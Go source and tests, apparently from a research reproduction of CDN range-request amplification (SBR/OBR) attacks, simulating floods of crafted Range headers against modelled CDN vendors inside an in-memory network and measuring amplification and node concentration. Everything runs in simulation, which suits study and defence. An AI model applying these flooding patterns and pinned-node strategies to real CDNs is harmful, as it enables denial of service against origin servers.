func (c *floodCounts) note(resp *httpwire.Response, err error) (blocked, failed bool) {
	c.requests++
	switch {
	case err != nil:
		c.failures++
		if c.firstErr == nil {
			c.firstErr = err
		}
		return false, true
	case resp.StatusCode == 403 || resp.StatusCode == 431:
		c.blocked++
		return true, false
	}
	return false, false
}

// arrival draws the next worker's start jitter. Every worker consumes
// one draw — calibrated workers too — so the replayed workers' instants
// do not depend on which workers happened to calibrate.
func arrival(rng *rand.Rand, ramp time.Duration) time.Duration {
	return time.Duration(rng.Int63n(int64(ramp)))
}

// runSBRFloodVTime is RunSBRFloodOpts on the vtime engine: calibrate
// calPerShape real workers per request-shape class against the live
// topology, then replay the remaining workers as event-driven state.
// Traffic totals land on the same segments and registry series as the
// pipe engine's, bit-identically on stationary configs.
func runSBRFloodVTime(ctx context.Context, t *SBRTopology, path string, exploit SBRCase, opts FloodOptions) (*FloodResult, error) {
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
	sched := opts.VTime.Sched
	if sched == nil {
		sched = vtime.NewScheduler()
	}
	upLink := vtime.NewSharedLink(sched, opts.VTime.Upstream)
	downLink := vtime.NewSharedLink(sched, opts.VTime.Client)
	segs := []*netsim.Segment{t.OriginSeg, t.ClientSeg}
	rep := vtime.NewReplay(sched)
	pathID := rep.AddPath([]vtime.Hop{
		{Seg: vtime.NewSegmentBatch(sched, t.OriginSeg), Link: upLink},
		{Seg: vtime.NewSegmentBatch(sched, t.ClientSeg), Link: downLink},
	})

	var (
		counts    floodCounts
		templates = map[int]int{} // shape -> replay template id
		calCount  = map[int]int{}
	)

	// Calibration phase: real workers run serially (their requests are
	// traced like pipe-engine requests; replayed workers leave no
	// spans). Serial execution keeps calibration deterministic.
	runReal := func(w int) error {
		tmpl := &vtime.Template{}
		var session *origin.Client
		if opts.KeepAlive {
			session = origin.NewClient(t.Net, t.EdgeAddr, t.ClientSeg)
			defer func() {
				st := session.Stats()
				before := snapAll(segs)
				session.Close()
				tmpl.Close = deltasSince(segs, before)
				tmpl.Dials = st.Dials
				counts.dials += st.Dials
			}()
		}
		for i := 0; i < opts.PerWorker; i++ {
			target := fmt.Sprintf("%s?cb=w%d-%d", path, w, i)
			for r := 0; r < exploit.Repeat; r++ {
				if err := ctx.Err(); err != nil {
					return err
				}
				req := NewAttackRequest(target)
				req.Headers.Add("Range", exploit.RangeHeader)
				sp := t.Trace.StartRoot("attacker", target)
				if sp.Recording() {
					sp.SetAttr("range", exploit.RangeHeader)
					trace.Inject(sp, &req.Headers)
				}
				before := snapAll(segs)
				var (
					resp *httpwire.Response
					err  error
				)
				if session != nil {
					resp, err = session.Do(req)
				} else {
					resp, err = origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
				}
				if sp.Recording() {
					if resp != nil {
						sp.SetAttrInt("status", int64(resp.StatusCode))
					}
					if err != nil {
						sp.SetAttr("error", err.Error())
					}
				}
				sp.End()
				s := vtime.ReqSample{Hops: deltasSince(segs, before)}
				s.Blocked, s.Failed = counts.note(resp, err)
				if session == nil {
					counts.dials++
				}
				tmpl.Reqs = append(tmpl.Reqs, s)
			}
		}
		if session == nil {
			tmpl.Close = make([]vtime.Delta, len(segs))
			tmpl.Dials = int64(opts.PerWorker) * int64(exploit.Repeat)
		}
		templates[shapeOf(w)] = rep.AddTemplate(tmpl)
		return nil
	}
	for w := 0; w < opts.Workers; w++ {
		if d := shapeOf(w); calCount[d] < calPerShape {
			calCount[d]++
			if err := runReal(w); err != nil {
				return nil, fmt.Errorf("flood: cancelled after %d requests: %w", counts.requests, err)
			}
		}
	}

	// Replay phase: every remaining worker becomes event-driven state.
	ramp := opts.VTime.Ramp
	if ramp <= 0 {
		ramp = time.Second
	}
	rng := rand.New(rand.NewSource(opts.VTime.Seed))
	seen := map[int]int{}
	for w := 0; w < opts.Workers; w++ {
		start := arrival(rng, ramp)
		d := shapeOf(w)
		if seen[d] < calPerShape {
			seen[d]++
			continue
		}
		rep.AddClient(start, templates[d], pathID)
	}
	err := rep.Run(ctx)
	counts.merge(rep.Counts)
	if err != nil {
		return nil, fmt.Errorf("flood: cancelled after %d requests: %w", counts.requests, err)
	}
	if counts.firstErr != nil {
		return nil, fmt.Errorf("flood: %d failures, first: %w", counts.failures, counts.firstErr)
	}
	return &FloodResult{
		Requests:        counts.requests,
		Failures:        counts.failures,
		Blocked:         counts.blocked,
		Dials:           counts.dials,
		Amplification:   probe.Delta(),
		VirtualDuration: sched.Elapsed(),
	}, nil
}
