package core

import (
	"context"
	"fmt"
	"math/rand"
	"testing"

	"repro/internal/netsim"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// runEngines runs the same flood once per engine, each against a fresh
// topology, and returns the final per-segment snapshots plus results.
func runEngines(t *testing.T, profile *vendor.Profile, size int64, sopts SBROptions, opts FloodOptions, prime bool) (pipe, vt [2]netsim.Snapshot, rPipe, rVT *FloodResult) {
	t.Helper()
	run := func(engine Engine) ([2]netsim.Snapshot, *FloodResult) {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, size, contentType)
		topo, err := NewSBRTopology(profile, store, sopts)
		if err != nil {
			t.Fatal(err)
		}
		defer topo.Close()
		if prime {
			if err := PrimeSizeHint(topo, targetPath); err != nil {
				t.Fatal(err)
			}
		}
		base := [2]netsim.Snapshot{topo.ClientSeg.Snapshot(), topo.OriginSeg.Snapshot()}
		o := opts
		o.Engine = engine
		o.ResourceSize = size
		res, err := RunSBRFloodOpts(context.Background(), topo, o)
		if err != nil {
			t.Fatalf("engine %q: %v", engine, err)
		}
		return [2]netsim.Snapshot{
			topo.ClientSeg.Snapshot().Sub(base[0]),
			topo.OriginSeg.Snapshot().Sub(base[1]),
		}, res
	}
	pipe, rPipe = run(EnginePipe)
	vt, rVT = run(EngineVTime)
	return pipe, vt, rPipe, rVT
}

func assertEngineMatch(t *testing.T, label string, pipe, vt [2]netsim.Snapshot, rPipe, rVT *FloodResult) {
	t.Helper()
	names := [2]string{"client", "origin"}
	for i := range pipe {
		if pipe[i] != vt[i] {
			t.Errorf("%s: %s segment diverged:\n  pipe  %+v\n  vtime %+v", label, names[i], pipe[i], vt[i])
		}
	}
	if rPipe.Requests != rVT.Requests || rPipe.Failures != rVT.Failures ||
		rPipe.Blocked != rVT.Blocked || rPipe.Dials != rVT.Dials {
		t.Errorf("%s: result diverged:\n  pipe  %+v\n  vtime %+v", label, rPipe, rVT)
	}
	if rPipe.Amplification != rVT.Amplification {
		t.Errorf("%s: amplification diverged: pipe %+v vtime %+v",
			label, rPipe.Amplification, rVT.Amplification)
	}
}

// TestEngineDiffSBRBasic pins the core contract on a simple config:
// the vtime engine's byte accounting is bit-identical to the pipe
// engine's, per segment and per direction, including connection
// lifecycle classifications.
func TestEngineDiffSBRBasic(t *testing.T) {
	pipe, vt, rp, rv := runEngines(t, vendor.Cloudflare(), 256<<10,
		SBROptions{OriginRangeSupport: true},
		FloodOptions{Workers: 8, PerWorker: 3}, false)
	assertEngineMatch(t, "cloudflare/256K", pipe, vt, rp, rv)
	if rv.VirtualDuration <= 0 {
		t.Errorf("vtime virtual duration = %v, want > 0", rv.VirtualDuration)
	}
	if rp.VirtualDuration != 0 {
		t.Errorf("pipe virtual duration = %v, want 0", rp.VirtualDuration)
	}
}

// TestEngineDiffOBR pins the same contract on the three-hop cascade:
// replayed overlapping-range requests leave identical traffic on all
// three segments.
func TestEngineDiffOBR(t *testing.T) {
	run := func(engine Engine) ([3]netsim.Snapshot, *FloodResult) {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, 1<<10, contentType)
		topo, err := NewOBRTopology(vendor.Cloudflare(), vendor.Akamai(), store)
		if err != nil {
			t.Fatal(err)
		}
		defer topo.Close()
		res, err := RunOBRFloodOpts(context.Background(), topo,
			FloodOptions{Workers: 6, PerWorker: 2, Engine: engine})
		if err != nil {
			t.Fatalf("engine %q: %v", engine, err)
		}
		return [3]netsim.Snapshot{
			topo.ClientSeg.Snapshot(),
			topo.FcdnBcdnSeg.Snapshot(),
			topo.BcdnOriginSeg.Snapshot(),
		}, res
	}
	pipe, rp := run(EnginePipe)
	vt, rv := run(EngineVTime)
	names := [3]string{"client-fcdn", "fcdn-bcdn", "bcdn-origin"}
	for i := range pipe {
		if pipe[i] != vt[i] {
			t.Errorf("%s segment diverged:\n  pipe  %+v\n  vtime %+v", names[i], pipe[i], vt[i])
		}
	}
	if rp.Requests != rv.Requests || rp.Dials != rv.Dials || rp.Amplification != rv.Amplification {
		t.Errorf("result diverged:\n  pipe  %+v\n  vtime %+v", rp, rv)
	}
	if rp.Amplification.Factor() < 10 {
		t.Errorf("obr flood factor = %.1f, want amplification", rp.Amplification.Factor())
	}
}

func TestEngineDiffSBRKeepAlive(t *testing.T) {
	pipe, vt, rp, rv := runEngines(t, vendor.Cloudflare(), 128<<10,
		SBROptions{OriginRangeSupport: true},
		FloodOptions{Workers: 12, PerWorker: 2, KeepAlive: true}, false)
	assertEngineMatch(t, "cloudflare/keepalive", pipe, vt, rp, rv)
	if rv.Dials != 12 {
		t.Errorf("keep-alive dials = %d, want one per worker", rv.Dials)
	}
}

// TestEngineDiffRandomized is the property test: randomized small
// topologies — vendors, sizes, grammars, connection economy — produce
// bit-identical per-segment totals and lifecycle classifications on
// both engines. Vendors whose footprints are stationary only after a
// first-touch transient (Huawei's size hint, KeyCDN's repeat priming)
// are primed before both runs, matching how the experiments use them.
func TestEngineDiffRandomized(t *testing.T) {
	profiles := []func() *vendor.Profile{
		vendor.Cloudflare, vendor.CloudFront, vendor.Fastly,
		vendor.KeyCDN, vendor.HuaweiCloud, vendor.Akamai,
	}
	sizes := []int64{16 << 10, 64 << 10, 256 << 10, 1 << 20}
	grammars := []string{"", "bytes=0-0", "bytes=-1", "bytes=0-"}
	rng := rand.New(rand.NewSource(9))
	for it := 0; it < 8; it++ {
		profile := profiles[rng.Intn(len(profiles))]()
		size := sizes[rng.Intn(len(sizes))]
		opts := FloodOptions{
			Workers:   2 + rng.Intn(13),
			PerWorker: 1 + rng.Intn(3),
			KeepAlive: rng.Intn(2) == 0,
		}
		if g := grammars[rng.Intn(len(grammars))]; g != "" {
			opts.Range = SBRCase{RangeHeader: g}
		}
		prime := profile.Name == "huawei" || profile.Name == "keycdn"
		label := fmt.Sprintf("it%d/%s/%dK/w%d-p%d/ka=%v/range=%q", it, profile.Name,
			size>>10, opts.Workers, opts.PerWorker, opts.KeepAlive, opts.Range.RangeHeader)
		pipe, vt, rp, rv := runEngines(t, profile, size,
			SBROptions{OriginRangeSupport: true}, opts, prime)
		assertEngineMatch(t, label, pipe, vt, rp, rv)
	}
}

// TestEngineDiffAzureAbort covers mid-transfer aborts: Azure's 8 MiB
// deletion cutoff makes the edge tear down its upstream pull partway
// through. The abort classification and every client-side byte are
// bit-exact across engines; the origin segment's down-bytes are the one
// quantity the pipe substrate itself does not reproduce bit-for-bit
// (how many bytes the origin's writer pushed into the bounded pipe
// before the closer won the race varies run to run), so both engines
// are held to the same interval instead — DESIGN.md §11's carve-out.
func TestEngineDiffAzureAbort(t *testing.T) {
	const size = 9 << 20
	pipe, vt, rp, rv := runEngines(t, vendor.Azure(), size,
		SBROptions{OriginRangeSupport: true},
		FloodOptions{Workers: 3, PerWorker: 1}, false)
	// Client segment: exact.
	if pipe[0] != vt[0] {
		t.Errorf("client segment diverged:\n  pipe  %+v\n  vtime %+v", pipe[0], vt[0])
	}
	// Origin segment: everything but Down exact, Down within the pipe
	// window per request of the cutoff.
	po, vo := pipe[1], vt[1]
	if po.Up != vo.Up || po.Conns != vo.Conns || po.Closed != vo.Closed || po.Aborted != vo.Aborted {
		t.Errorf("origin lifecycle diverged:\n  pipe  %+v\n  vtime %+v", po, vo)
	}
	if po.Aborted == 0 {
		t.Errorf("expected mid-transfer aborts on origin segment, got %+v", po)
	}
	reqs := int64(rp.Requests)
	slack := int64(netsim.DefaultWindow) * reqs
	if diff := po.Down - vo.Down; diff < -slack || diff > slack {
		t.Errorf("origin down-bytes outside carve-out: pipe %d vtime %d (slack %d)",
			po.Down, vo.Down, slack)
	}
	if rp.Requests != rv.Requests || rp.Failures != rv.Failures {
		t.Errorf("results diverged: pipe %+v vtime %+v", rp, rv)
	}
}

// TestEngineDiffCluster pins the multi-PoP flood: per-node client and
// upstream traffic identical across engines.
func TestEngineDiffCluster(t *testing.T) {
	run := func(engine Engine) *ClusterFloodResult {
		res, err := RunClusterFlood(context.Background(), nil, ClusterFloodOptions{
			Nodes: 3, Workers: 11, PerWorker: 2, KeepAlive: true,
			ResourceSize: 128 << 10, Engine: engine,
		})
		if err != nil {
			t.Fatalf("engine %q: %v", engine, err)
		}
		return res
	}
	rp := run(EnginePipe)
	rv := run(EngineVTime)
	if rp.Requests != rv.Requests || rp.Dials != rv.Dials || rp.Amplification != rv.Amplification {
		t.Errorf("cluster result diverged:\n  pipe  %+v\n  vtime %+v", rp, rv)
	}
	if len(rp.PerNode) != len(rv.PerNode) {
		t.Fatalf("node counts diverged: %d vs %d", len(rp.PerNode), len(rv.PerNode))
	}
	for i := range rp.PerNode {
		if rp.PerNode[i] != rv.PerNode[i] {
			t.Errorf("node %d diverged:\n  pipe  %+v\n  vtime %+v", i, rp.PerNode[i], rv.PerNode[i])
		}
	}
	if rp.Concentration != rv.Concentration {
		t.Errorf("concentration diverged: %f vs %f", rp.Concentration, rv.Concentration)
	}
}

// TestEngineDiffBackground pins the benign population: per-user private
// objects keep the pipe engine deterministic, and the vtime engine's
// occurrence-calibrated replay must land the same totals.
func TestEngineDiffBackground(t *testing.T) {
	const size = 2 << 20
	paths := make([]string, 6)
	for i := range paths {
		paths[i] = fmt.Sprintf("/bg/u%d.bin", i)
	}
	run := func(engine Engine) ([2]netsim.Snapshot, *BackgroundResult) {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, 64<<10, contentType)
		for _, p := range paths {
			store.AddSynthetic(p, size, contentType)
		}
		topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
		if err != nil {
			t.Fatal(err)
		}
		defer topo.Close()
		res, err := RunBackgroundUsers(context.Background(), topo, BackgroundOptions{
			Users: 6, PerUser: 8, Seed: 42, Size: size, Paths: paths, Engine: engine,
		})
		if err != nil {
			t.Fatalf("engine %q: %v", engine, err)
		}
		return [2]netsim.Snapshot{topo.ClientSeg.Snapshot(), topo.OriginSeg.Snapshot()}, res
	}
	pipe, rp := run(EnginePipe)
	vt, rv := run(EngineVTime)
	names := [2]string{"client", "origin"}
	for i := range pipe {
		if pipe[i] != vt[i] {
			t.Errorf("%s segment diverged:\n  pipe  %+v\n  vtime %+v", names[i], pipe[i], vt[i])
		}
	}
	if rp.Requests != rv.Requests || rp.Failures != rv.Failures || rp.ClientBytes != rv.ClientBytes {
		t.Errorf("result diverged:\n  pipe  %+v\n  vtime %+v", rp, rv)
	}
}

// TestEngineVTimeDeterministic: two vtime runs with the same seed are
// byte-identical in every reported quantity, including virtual span.
func TestEngineVTimeDeterministic(t *testing.T) {
	run := func() ([2]netsim.Snapshot, *FloodResult) {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, 256<<10, contentType)
		topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
		if err != nil {
			t.Fatal(err)
		}
		defer topo.Close()
		res, err := RunSBRFloodOpts(context.Background(), topo, FloodOptions{
			Workers: 40, PerWorker: 2, KeepAlive: true,
			Engine: EngineVTime, VTime: VTimeOptions{Seed: 7},
		})
		if err != nil {
			t.Fatal(err)
		}
		return [2]netsim.Snapshot{topo.ClientSeg.Snapshot(), topo.OriginSeg.Snapshot()}, res
	}
	s1, r1 := run()
	s2, r2 := run()
	if s1 != s2 {
		t.Errorf("segment snapshots diverged across reruns:\n  %+v\n  %+v", s1, s2)
	}
	if *r1 != *r2 {
		t.Errorf("results diverged across reruns:\n  %+v\n  %+v", r1, r2)
	}
}
