package core

import (
	"context"
	"fmt"
	"strconv"

	"repro/internal/httpwire"
	"repro/internal/origin"
	"repro/internal/ranges"
	"repro/internal/report"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// CorpusAudit reproduces the paper's first-experiment methodology: a
// large corpus of valid range requests generated from the RFC 7233
// ABNF is sent through every vendor edge, and the requests observed at
// the origin are compared with what the client sent. Beyond the
// policy census, the audit checks protocol invariants that must hold
// for *every* corpus element — the properties a conforming (if
// vulnerable) CDN must not violate.
type CorpusReport struct {
	Requests     int
	PolicyCounts map[string]map[vendor.ForwardPolicy]int // vendor -> policy -> count
	Violations   []string
}

// CorpusResourceSize is sized so the generated corpus (positions up to
// 2*size) exercises both satisfiable and unsatisfiable ranges.
const CorpusResourceSize = 64 << 10

const corpusResourceSize = CorpusResourceSize

// NewCorpus generates the seeded ABNF request corpus every vendor is
// audited with.
func NewCorpus(seed int64, count int) []ranges.Set {
	gen := ranges.NewGenerator(seed)
	gen.MaxPos = 2 * corpusResourceSize
	return gen.Corpus(count)
}

// VendorAudit is one vendor's corpus-audit cell result.
type VendorAudit struct {
	Name        string // short vendor name
	DisplayName string
	Counts      map[vendor.ForwardPolicy]int
	Violations  []string
	Requests    int
}

// AuditVendor runs the full corpus against one vendor's isolated
// topology (reporting into rt's environment; nil rt means the process
// defaults) and returns the policy census and invariant violations.
// The profile is used as given (callers own it); ctx cancellation is
// honored between corpus elements.
func AuditVendor(ctx context.Context, rt *Runtime, p *vendor.Profile, corpus []ranges.Set) (*VendorAudit, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	store := resource.NewStore()
	store.AddSynthetic(targetPath, corpusResourceSize, contentType)
	topo, err := NewSBRTopology(p, store, SBROptions{OriginRangeSupport: true, Runtime: rt})
	if err != nil {
		return nil, err
	}
	defer topo.Close()
	if err := PrimeSizeHint(topo, targetPath); err != nil {
		return nil, err
	}

	audit := &VendorAudit{
		Name:        p.Name,
		DisplayName: p.DisplayName,
		Counts:      make(map[vendor.ForwardPolicy]int, 3),
	}
	for i, set := range corpus {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		raw := set.HeaderValue()
		topo.Origin.ResetLog()
		req := NewAttackRequest(targetPath + "?cb=c" + strconv.Itoa(i))
		req.Headers.Add("Range", raw)
		resp, err := origin.Fetch(topo.Net, topo.EdgeAddr, topo.ClientSeg, req)
		if err != nil {
			return nil, fmt.Errorf("corpus %d (%s): %w", i, raw, err)
		}
		audit.Requests++

		audit.Counts[classifyForwarding(topo.Origin.Log(), raw)]++
		for _, v := range auditInvariants(set, resp, topo.Origin.Log()) {
			audit.Violations = append(audit.Violations,
				fmt.Sprintf("%s corpus[%d] %q: %s", p.Name, i, raw, v))
		}
	}
	return audit, nil
}

// Merge folds one vendor cell into the report. Call in paper order so
// the violation list stays deterministic.
func (r *CorpusReport) Merge(a *VendorAudit) {
	if r.PolicyCounts == nil {
		r.PolicyCounts = make(map[string]map[vendor.ForwardPolicy]int, 13)
	}
	r.PolicyCounts[a.DisplayName] = a.Counts
	r.Violations = append(r.Violations, a.Violations...)
	r.Requests += a.Requests
}

// classifyForwarding maps an origin log to the §III-B policy taxonomy.
func classifyForwarding(log []origin.ReceivedRequest, raw string) vendor.ForwardPolicy {
	allUnchanged, anyExpanded := true, false
	for _, entry := range log {
		switch {
		case !entry.HasRange:
			allUnchanged = false
		case entry.RangeHeader != raw:
			allUnchanged = false
			anyExpanded = true
		}
	}
	switch {
	case allUnchanged && len(log) > 0:
		return vendor.Laziness
	case anyExpanded:
		return vendor.Expansion
	default:
		return vendor.Deletion
	}
}

// auditInvariants checks the protocol properties every edge must
// uphold regardless of its (vulnerable) policy choices.
func auditInvariants(set ranges.Set, resp *httpwire.Response, log []origin.ReceivedRequest) []string {
	var violations []string

	// 1. Every Range header that reached the origin must itself be valid
	//    RFC 7233 (a transforming edge must not emit garbage).
	for _, entry := range log {
		if !entry.HasRange {
			continue
		}
		if _, err := ranges.Parse(entry.RangeHeader); err != nil {
			violations = append(violations, fmt.Sprintf("origin received malformed Range %q", entry.RangeHeader))
		}
	}

	// 2. The client response status must be coherent with satisfiability.
	satisfiable := set.Satisfiable(corpusResourceSize)
	switch resp.StatusCode {
	case httpwire.StatusOK:
		// Always acceptable: the edge may ignore the Range header.
	case httpwire.StatusPartialContent:
		if !satisfiable {
			violations = append(violations, "206 for an unsatisfiable set")
		}
	case httpwire.StatusRangeNotSatisfiable:
		if satisfiable {
			violations = append(violations, "416 for a satisfiable set")
		}
	case httpwire.StatusBadRequest, httpwire.StatusHeaderTooLarge:
		// Rejections are allowed (mitigated profiles, header limits).
	default:
		violations = append(violations, fmt.Sprintf("unexpected status %d", resp.StatusCode))
	}

	// 3. Content-Length must match the body.
	if cl, ok := resp.Headers.Get("Content-Length"); ok {
		if n, err := strconv.Atoi(cl); err != nil || n != len(resp.Body) {
			violations = append(violations, fmt.Sprintf("Content-Length %q vs body %d", cl, len(resp.Body)))
		}
	}

	// 4. A single-part 206 must carry a coherent Content-Range whose
	//    window matches the body size.
	if resp.StatusCode == httpwire.StatusPartialContent {
		ct, _ := resp.Headers.Get("Content-Type")
		if _, isMulti := cutBoundary(ct); !isMulti {
			cr, ok := resp.Headers.Get("Content-Range")
			if !ok {
				violations = append(violations, "single-part 206 without Content-Range")
			} else if length, parseOK := contentRangeLength(cr); !parseOK {
				violations = append(violations, fmt.Sprintf("malformed Content-Range %q", cr))
			} else if length != int64(len(resp.Body)) {
				violations = append(violations, fmt.Sprintf("Content-Range %q vs body %d", cr, len(resp.Body)))
			}
		}
	}
	return violations
}

// contentRangeLength extracts the window length from "bytes a-b/L".
func contentRangeLength(v string) (int64, bool) {
	var first, last, complete int64
	if _, err := fmt.Sscanf(v, "bytes %d-%d/%d", &first, &last, &complete); err != nil {
		return 0, false
	}
	if last < first {
		return 0, false
	}
	return last - first + 1, true
}

// Table renders the corpus census.
func (r *CorpusReport) Table() *report.Table {
	tab := &report.Table{
		Title:   "Corpus audit — forwarding policy census over the ABNF corpus",
		Slug:    "corpus",
		Columns: []string{"CDN", "Laziness", "Deletion", "Expansion", "Violations"},
	}
	for _, p := range vendor.All() {
		counts := r.PolicyCounts[p.DisplayName]
		tab.AddRow(p.DisplayName,
			strconv.Itoa(counts[vendor.Laziness]),
			strconv.Itoa(counts[vendor.Deletion]),
			strconv.Itoa(counts[vendor.Expansion]),
			strconv.Itoa(r.vendorViolations(p.Name)))
	}
	return tab
}

func (r *CorpusReport) vendorViolations(name string) int {
	n := 0
	prefix := name + " "
	for _, v := range r.Violations {
		if len(v) >= len(prefix) && v[:len(prefix)] == prefix {
			n++
		}
	}
	return n
}
