package core

import (
	"context"
	"fmt"

	"repro/internal/cluster"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// NodeStrategyStats is one ingress-node selection strategy's cell
// result: the same request volume produces radically different
// per-node load under §IV-C pinning vs §VI-A spreading.
type NodeStrategyStats struct {
	Label           string
	Share           float64 // busiest node's load share
	BusiestUpstream int64   // busiest node's upstream down-bytes
	IdleNodes       int
}

// RunNodeStrategy drives requests SBR requests through a nodeCount-node
// Cloudflare-profiled cluster under the given selector and measures the
// load concentration. The cluster's segments and edges report into rt's
// registry (nil rt means the process defaults); ctx cancellation is
// honored between requests.
func RunNodeStrategy(ctx context.Context, rt *Runtime, label string, sel cluster.Selector, nodeCount, requests int) (*NodeStrategyStats, error) {
	if nodeCount < 2 || requests < nodeCount {
		return nil, fmt.Errorf("core: need >=2 nodes and >=%d requests", nodeCount)
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	env := rt.effective()
	store := resource.NewStore()
	store.AddSynthetic(targetPath, 256<<10, contentType)
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true, Trace: env.Trace, Metrics: env.Metrics})
	net := netsim.NewNetwork()
	originL, err := net.Listen(originAddr)
	if err != nil {
		return nil, err
	}
	defer originL.Close()
	go osrv.Serve(originL)

	c, err := cluster.New(cluster.Config{
		Name:         "fcdn",
		Profile:      vendor.Cloudflare(),
		Network:      net,
		UpstreamAddr: originAddr,
		NodeCount:    nodeCount,
		Metrics:      env.Metrics,
	})
	if err != nil {
		return nil, err
	}
	defer c.Close()

	for i := 0; i < requests; i++ {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		node := sel.Pick(c)
		req := NewAttackRequest(fmt.Sprintf("%s?cb=%s%d", targetPath, label, i))
		req.Headers.Add("Range", "bytes=0-0")
		if _, err := origin.Fetch(net, node.Addr, node.ClientSeg, req); err != nil {
			return nil, fmt.Errorf("request %d: %w", i, err)
		}
	}

	stats := &NodeStrategyStats{Label: label, Share: c.Concentration()}
	for _, nt := range c.TrafficByNode() {
		if nt.Upstream.Down > stats.BusiestUpstream {
			stats.BusiestUpstream = nt.Upstream.Down
		}
		if nt.Upstream.Down == 0 {
			stats.IdleNodes++
		}
	}
	return stats, nil
}
