package core

import (
	"fmt"

	"repro/internal/cluster"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/report"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// NodeTargeting contrasts the §IV-C attacker strategy (pin every
// request to one ingress node) with the §VI-A ethics control (spread
// requests over all nodes): the same request volume, radically
// different per-node load. It returns the comparison table and the
// busiest-node load share for both strategies.
func NodeTargeting(nodeCount, requests int) (*report.Table, map[string]float64, error) {
	if nodeCount < 2 || requests < nodeCount {
		return nil, nil, fmt.Errorf("core: need >=2 nodes and >=%d requests", nodeCount)
	}
	shares := make(map[string]float64, 2)
	tab := &report.Table{
		Title: fmt.Sprintf("§IV-C vs §VI-A — ingress-node load under pinned and spread selection (%d nodes, %d SBR requests)",
			nodeCount, requests),
		Columns: []string{"Strategy", "Busiest Node Share", "Busiest Node Upstream", "Idle Nodes"},
	}

	run := func(label string, sel cluster.Selector) error {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, 256<<10, contentType)
		osrv := origin.NewServer(store, origin.Config{RangeSupport: true})
		net := netsim.NewNetwork()
		originL, err := net.Listen(originAddr)
		if err != nil {
			return err
		}
		defer originL.Close()
		go osrv.Serve(originL)

		c, err := cluster.New(cluster.Config{
			Name:         "fcdn",
			Profile:      vendor.Cloudflare(),
			Network:      net,
			UpstreamAddr: originAddr,
			NodeCount:    nodeCount,
		})
		if err != nil {
			return err
		}
		defer c.Close()

		for i := 0; i < requests; i++ {
			node := sel.Pick(c)
			req := NewAttackRequest(fmt.Sprintf("%s?cb=%s%d", targetPath, label, i))
			req.Headers.Add("Range", "bytes=0-0")
			if _, err := origin.Fetch(net, node.Addr, node.ClientSeg, req); err != nil {
				return fmt.Errorf("request %d: %w", i, err)
			}
		}

		share := c.Concentration()
		shares[label] = share
		var busiest int64
		idle := 0
		for _, nt := range c.TrafficByNode() {
			if nt.Upstream.Down > busiest {
				busiest = nt.Upstream.Down
			}
			if nt.Upstream.Down == 0 {
				idle++
			}
		}
		tab.AddRow(label,
			fmt.Sprintf("%.2f", share),
			fmt.Sprintf("%d", busiest),
			fmt.Sprintf("%d/%d", idle, nodeCount))
		return nil
	}

	if err := run("pinned", cluster.Pinned{Index: 0}); err != nil {
		return nil, nil, err
	}
	if err := run("spread", &cluster.RoundRobin{}); err != nil {
		return nil, nil, err
	}
	return tab, shares, nil
}
