package core

import (
	"runtime"
	"testing"
	"time"

	"repro/internal/cdn"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// waitFor polls cond until it holds or the deadline lapses.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(time.Millisecond)
	}
}

func TestSBRFloodKeepAliveSessions(t *testing.T) {
	const size = 256 << 10
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	const workers, perWorker = 4, 5
	res, err := RunSBRFloodKeepAlive(topo, targetPath, size, workers, perWorker)
	if err != nil {
		t.Fatal(err)
	}
	if res.Requests != workers*perWorker || res.Failures != 0 {
		t.Fatalf("flood result = %+v", res)
	}
	if res.Dials != workers {
		t.Errorf("dials = %d, want %d (one session per worker)", res.Dials, workers)
	}
	if conns := topo.ClientSeg.Conns(); conns != workers {
		t.Errorf("attacker-edge connections = %d, want %d", conns, workers)
	}
	if live := topo.ClientSeg.Live(); live != 0 {
		t.Errorf("live attacker-edge connections after flood = %d, want 0", live)
	}
	// The wire bytes are the same requests, so amplification holds.
	if f := res.Amplification.Factor(); f < 100 {
		t.Errorf("aggregate factor = %.1f", f)
	}
}

func TestSBRFloodPerRequestCountsDials(t *testing.T) {
	const size = 16 << 10
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	res, err := RunSBRFlood(topo, targetPath, size, 2, 3)
	if err != nil {
		t.Fatal(err)
	}
	if res.Dials != int64(res.Requests) {
		t.Errorf("per-request flood dials = %d, want %d (one per request)", res.Dials, res.Requests)
	}
}

func TestTopologyCloseReleasesPooledConns(t *testing.T) {
	const size = 16 << 10
	before := runtime.NumGoroutine()

	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{
		OriginRangeSupport: true,
		UpstreamPool:       &cdn.PoolConfig{Size: 4},
	})
	if err != nil {
		t.Fatal(err)
	}

	// One worker keeps the pooled path strictly sequential: every miss
	// reuses the single pooled upstream connection.
	res, err := RunSBRFloodKeepAlive(topo, targetPath, size, 1, 8)
